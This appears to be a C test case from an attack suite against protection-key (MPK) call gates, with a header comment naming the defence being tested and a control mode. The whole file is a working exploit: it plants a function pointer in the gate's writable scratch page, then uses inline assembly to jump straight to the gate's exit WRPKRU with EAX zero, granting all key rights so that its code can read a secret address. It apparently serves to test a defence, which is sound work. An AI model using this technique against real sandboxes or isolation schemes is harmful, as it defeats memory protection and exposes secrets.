/* Jump to the gate's own WRPKRU, the one on the way out, with EAX 0: all rights.
 * Defence: the gate compares the value behind each WRPKRU.  Control: off=check.
 * The gate ends with a jump to where its scratch page says, which is ours to write. */
#include "attack.h"

static u64 secret_address;

__attribute__((used)) static void behind_the_gate(void) {
    plunder(secret_address);
    syscall(SYS_exit_group, 0);
}

int main(int argc, char **argv) {
    if (argc < 4)
        return 2;
    secret_address = hexadecimal(argv[1]);
    u64 target = hexadecimal(argv[2]);
    u64 *scratch = (u64 *)hexadecimal(argv[3]);
    scratch[0] = (u64)behind_the_gate;
    asm volatile("jmp *%%rbx" :: "b"(target), "a"(0), "c"(0), "d"(0) : "memory");
    return 3;
}
